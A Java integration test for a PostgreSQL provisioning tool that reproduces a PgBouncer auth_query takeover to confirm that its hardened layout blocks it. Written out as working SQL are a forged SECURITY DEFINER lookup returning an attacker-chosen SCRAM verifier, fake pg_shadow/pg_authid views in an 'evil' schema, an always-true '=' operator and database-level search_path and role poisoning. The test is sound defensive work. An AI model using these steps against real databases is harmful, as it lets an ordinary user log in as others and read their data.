package fr.arcodange.factoryline.postgres;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import fr.arcodange.factoryline.text.Secret;
import java.security.SecureRandom;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.List;
import java.util.Map;

/**
 * An application's user who makes the pooler's lookup his own logs in as anybody: on a connection that the pooler keeps open for
 * somebody else, no server asks again who it is.
 */
class PoolerTakeOverIT {
  private static final String OWN_PASSWORD = "attacking";

  private final Provisioning names = Provisioning.anew();
  private final String own = names.own();
  private final Layout layout = names.layout();
  private final Application app = Application.named(own);
  private final String attacker = own + "_attacker";
  private final String victim = own + "_victim";

  /** What stands in for the lookup: whoever is asked for has the attacker's password. */
  private final String forged =
      "(i_username text) RETURNS TABLE (uname text, phash text) LANGUAGE sql SECURITY DEFINER AS "
          + Sql.text("SELECT i_username, "
              + Sql.text(ScramVerifier.of(Secret.of(OWN_PASSWORD), new SecureRandom()))
              + "::text");

  private RealPgbouncer pgbouncer(RealPostgres server, String authQuery) throws Exception {
    return RealPgbouncer.start(
        server,
        Map.of("auth_user", layout.pooler(), "auth_query", authQuery, "pool_mode", "transaction"),
        Map.of(layout.pooler(), Provisioning.PASSWORD.reveal()));
  }

  private String authQuery() {
    return layout.authQuery().replace("auth_query = ", "");
  }

  /** What OpenTofu makes today: an owner, a lookup in public, and who may call it. */
  private void today(RealPostgres server, String lookup) throws SQLException {
    server.execute(
        "CREATE ROLE " + Sql.name(app.owner()) + "; CREATE ROLE " + layout.pooler()
            + " LOGIN PASSWORD " + Sql.text(Provisioning.PASSWORD.reveal()),
        "postgres");
    server.execute("CREATE DATABASE " + own + " OWNER " + Sql.name(app.owner()), "postgres");
    server.execute(
        "CREATE FUNCTION public.user_lookup" + lookup
            + "; REVOKE ALL ON FUNCTION public.user_lookup(text) FROM PUBLIC;"
            + "GRANT EXECUTE ON FUNCTION public.user_lookup(text) TO " + layout.pooler(),
        own);
  }

  private void people(RealPostgres server) throws SQLException {
    server.execute(
        "CREATE ROLE " + attacker + " LOGIN PASSWORD 'own' IN ROLE " + Sql.name(app.owner())
            + "; CREATE ROLE " + victim + " LOGIN PASSWORD 'secret'; GRANT CONNECT ON DATABASE "
            + own + " TO " + victim,
        "postgres");
    server.execute(
        "CREATE SCHEMA vault AUTHORIZATION " + victim
            + "; CREATE TABLE vault.salaries AS SELECT 42 AS salary; ALTER TABLE vault.salaries OWNER TO "
            + victim,
        own);
  }

  private static String salary(Connection connection) throws SQLException {
    try (Statement statement = connection.createStatement();
        ResultSet row = statement.executeQuery("SELECT salary FROM vault.salaries")) {
      row.next();
      return row.getString(1);
    }
  }

  private void leaveAnIdleConnection(RealPgbouncer pgbouncer) throws SQLException {
    try (Connection connection = pgbouncer.connect(victim, "secret", own)) {
      assertEquals("42", salary(connection));
    }
  }

  private void assertCannotReadItself(Connection connection) {
    assertEquals(
        "42501", assertThrows(SQLException.class, () -> salary(connection)).getSQLState());
  }

  @OnEachPostgres({15, 18})
  void withTheLookupInPublicAnApplicationsUserBecomesSomebodyElse(RealPostgres server)
      throws Exception {
    today(
        server,
        "(i_username text) RETURNS TABLE (uname text, phash text) LANGUAGE sql SECURITY DEFINER AS"
            + " 'SELECT usename::text, passwd FROM pg_catalog.pg_shadow WHERE usename = i_username'");
    people(server);
    try (RealPgbouncer pgbouncer =
        pgbouncer(server, "SELECT uname, phash FROM public.user_lookup($1)")) {
      leaveAnIdleConnection(pgbouncer);
      try (Connection connection = pgbouncer.connect(attacker, "own", own);
          Statement statement = connection.createStatement()) {
        assertCannotReadItself(connection);
        statement.execute("DROP FUNCTION public.user_lookup(text)");
        statement.execute("CREATE FUNCTION public.user_lookup" + forged);
      }
      try (Connection connection = pgbouncer.connect(victim, OWN_PASSWORD, own)) {
        assertEquals("42", salary(connection));
      }
    }
  }

  @OnEachPostgres({15, 18})
  void withUnqualifiedNamesTheOwnersSearchPathDoesTheSame(RealPostgres server) throws Exception {
    today(
        server,
        "(i_username text) RETURNS TABLE (uname text, phash text) LANGUAGE sql SECURITY DEFINER AS"
            + " 'SELECT usename::text, passwd FROM pg_shadow WHERE usename = i_username'");
    people(server);
    try (RealPgbouncer pgbouncer =
        pgbouncer(server, "SELECT uname, phash FROM public.user_lookup($1)")) {
      leaveAnIdleConnection(pgbouncer);
      trick(server);
      endTheSessionOfThePooler(server);
      try (Connection connection = pgbouncer.connect(victim, OWN_PASSWORD, own)) {
        assertEquals("42", salary(connection));
      }
    }
  }

  /** As it ends by itself once it is old or idle for long: the next one begins with the database's settings. */
  private void endTheSessionOfThePooler(RealPostgres server) throws SQLException {
    assertEquals(
        "1",
        server.one(
            "SELECT count(pg_terminate_backend(pid, 60000)) FROM pg_stat_activity WHERE usename = "
                + Sql.text(layout.pooler())));
  }

  /** The attacker has every session of the database begin where names mean what he says. */
  private void trick(RealPostgres server) throws SQLException {
    String verifier =
        Sql.text(ScramVerifier.of(Secret.of(OWN_PASSWORD), new SecureRandom())) + "::text";
    try (Connection connection = server.connect(attacker, "own", own);
        Statement statement = connection.createStatement()) {
      for (String sql : List.of(
          "SET ROLE " + Sql.name(app.owner()),
          "CREATE SCHEMA evil",
          "GRANT USAGE ON SCHEMA evil TO PUBLIC",
          "CREATE VIEW evil.pg_shadow AS SELECT " + Sql.text(victim) + "::name AS usename, "
              + verifier + " AS passwd",
          "GRANT SELECT ON evil.pg_shadow TO PUBLIC",
          "CREATE VIEW evil.pg_authid AS SELECT " + Sql.text(victim) + "::name AS rolname, "
              + verifier
              + " AS rolpassword, true AS rolcanlogin, null::timestamptz AS rolvaliduntil",
          "GRANT SELECT ON evil.pg_authid TO PUBLIC",
          "CREATE FUNCTION evil.user_lookup" + forged,
          "CREATE FUNCTION public.user_lookup" + forged,
          "CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE sql AS 'SELECT timestamptz ''-infinity'''",
          "CREATE FUNCTION evil.same(name, name) RETURNS bool LANGUAGE sql AS 'SELECT true'",
          "CREATE OPERATOR evil.= (FUNCTION = evil.same, LEFTARG = name, RIGHTARG = name)",
          "CREATE DOMAIN evil.text AS varchar",
          "CREATE DOMAIN evil.name AS varchar",
          "ALTER DATABASE " + own + " SET search_path = evil, pg_catalog, public",
          // Neither may be had by who logs in, so that the server keeps the session as it is.
          "ALTER DATABASE " + own + " SET role = " + Sql.text(app.owner()))) {
        if (!sql.contains("public.user_lookup") || !isThere(server)) {
          statement.execute(sql);
        }
      }
    }
  }

  private boolean isThere(RealPostgres server) throws SQLException {
    return server
        .one("SELECT to_regproc('public.user_lookup') IS NOT NULL", own)
        .equals("t");
  }

  @OnEachPostgres({15, 18})
  void ofAProvisionedDatabaseEveryStepIsRefused(RealPostgres server) throws Exception {
    names.apply(server, List.of(app));
    people(server);
    String schema = layout.schema();
    String lookup = layout.qualifiedLookup() + "(text)";
    try (RealPgbouncer pgbouncer = pgbouncer(server, authQuery())) {
      leaveAnIdleConnection(pgbouncer);
      try (Connection connection = server.connect(attacker, "own", own)) {
        assertCannotReadItself(connection);
      }
      for (String as : List.of("RESET ROLE", "SET ROLE " + Sql.name(app.owner()))) {
        for (String step : List.of(
            "DROP FUNCTION " + lookup,
            "CREATE OR REPLACE FUNCTION " + layout.qualifiedLookup() + forged,
            "CREATE FUNCTION " + layout.qualifiedLookup() + forged.replace("text)", "name)"),
            "ALTER FUNCTION " + lookup + " RENAME TO another",
            "ALTER FUNCTION " + lookup + " SET search_path = public",
            "ALTER FUNCTION " + lookup + " SET SCHEMA public",
            "ALTER FUNCTION " + lookup + " OWNER TO " + Sql.name(app.owner()),
            "GRANT EXECUTE ON FUNCTION " + lookup + " TO PUBLIC",
            "SELECT * FROM " + layout.qualifiedLookup() + "(" + Sql.text(victim) + ")",
            "ALTER SCHEMA " + schema + " RENAME TO another",
            "ALTER SCHEMA " + schema + " OWNER TO " + Sql.name(app.owner()),
            "DROP SCHEMA " + schema + " CASCADE",
            "GRANT USAGE ON SCHEMA " + schema + " TO PUBLIC",
            "CREATE TABLE " + schema + ".pg_authid ()",
            "SELECT rolpassword FROM pg_catalog.pg_authid")) {
          assertEquals("42501", state(server, as, step), as + "; " + step);
        }
      }
      assertRefused(pgbouncer, victim, OWN_PASSWORD);
    }
    try (RealPgbouncer pgbouncer = pgbouncer(server, authQuery())) {
      leaveAnIdleConnection(pgbouncer);
      trick(server);
      endTheSessionOfThePooler(server);
      assertRefused(pgbouncer, victim, OWN_PASSWORD);
      try (Connection connection = pgbouncer.connect(attacker, "own", own);
          Statement statement = connection.createStatement()) {
        // The pooler's own sessions have a temporary schema of their own.
        statement.execute("CREATE TEMP TABLE pg_authid (rolname name, rolpassword text)");
        statement.execute("CREATE FUNCTION pg_temp.user_lookup" + forged);
        assertRefused(pgbouncer, victim, OWN_PASSWORD);
      }
      leaveAnIdleConnection(pgbouncer);
    }
    assertEquals(
        List.of(),
        Provisioning.statements(plan(server)).stream()
            .filter(sql -> sql.contains(schema))
            .toList());
  }

  /** Who owns a database cannot have what is provisioned in it become his. */
  @OnEachPostgres({15, 18})
  void whatATrickedDatabaseIsGivenIsNotTheApplications(RealPostgres server) throws Exception {
    today(
        server,
        "(i_username text) RETURNS TABLE (uname text, phash text) LANGUAGE sql SECURITY DEFINER AS"
            + " 'SELECT usename::text, passwd FROM pg_catalog.pg_shadow WHERE usename = i_username'");
    people(server);
    trick(server);
    server.execute("ALTER DATABASE " + own + " SET quote_all_identifiers = on", "postgres");

    names.apply(server, List.of(app));

    String owners = "SELECT string_agg(DISTINCT pg_catalog.pg_get_userbyid(p.proowner), ',')"
        + " FROM pg_catalog.pg_proc p JOIN pg_catalog.pg_namespace n ON n.oid OPERATOR(pg_catalog.=) p.pronamespace"
        + " WHERE n.nspname OPERATOR(pg_catalog.=) " + Sql.text(layout.schema())
        + " AND p.proname OPERATOR(pg_catalog.=) 'user_lookup'";
    assertEquals(RealPostgres.SUPERUSER, server.one(owners, own));
    assertEquals(
        List.of(),
        Provisioning.statements(plan(server)).stream()
            .filter(sql -> sql.contains("user_lookup"))
            .toList());
    try (RealPgbouncer pgbouncer = pgbouncer(server, authQuery())) {
      assertRefused(pgbouncer, victim, OWN_PASSWORD);
      leaveAnIdleConnection(pgbouncer);
    }
  }

  private List<Work> plan(RealPostgres server) {
    try (Provisioner provisioner = names.superuser(server)) {
      return provisioner.plan(List.of(app));
    }
  }

  private String state(RealPostgres server, String as, String step) throws SQLException {
    try (Connection connection = server.connect(attacker, "own", own);
        Statement statement = connection.createStatement()) {
      statement.execute(as);
      return String.valueOf(
          assertThrows(SQLException.class, () -> statement.execute(step), step).getSQLState());
    }
  }

  private void assertRefused(RealPgbouncer pgbouncer, String user, String password) {
    assertThrows(
        SQLException.class, () -> pgbouncer.connect(user, password, own).close());
  }

  @OnEachPostgres({15, 18})
  void throughThePoolerAUserLogsInUntilItsTimeIsUp(RealPostgres server) throws Exception {
    names.apply(server, List.of(app));
    try (Connection editor = server.connect(layout.editor(), Provisioning.PASSWORD.reveal(), own);
        Statement statement = editor.createStatement()) {
      for (String user : List.of("valid 2100", "expired 2001")) {
        String[] words = user.split(" ", -1);
        statement.execute("CREATE ROLE " + own + "_" + words[0] + " LOGIN PASSWORD 'leased'"
            + " VALID UNTIL '" + words[1] + "-01-01' IN ROLE " + Sql.name(app.owner()) + ", "
            + Sql.name(app.connectRole()));
      }
    }
    try (RealPgbouncer pgbouncer = pgbouncer(server, authQuery())) {
      try (Connection connection = pgbouncer.connect(own + "_valid", "leased", own)) {
        connection.createStatement().execute("CREATE TABLE mine ()");
      }
      // Its connection to the server stays open, and is not for who has no password any more.
      server.execute("ALTER ROLE " + own + "_valid VALID UNTIL '2001-01-01'", "postgres");
      assertRefused(pgbouncer, own + "_valid", "leased");
      assertRefused(pgbouncer, own + "_expired", "leased");
      assertRefused(pgbouncer, own + "_valid", "");
    }
  }
}
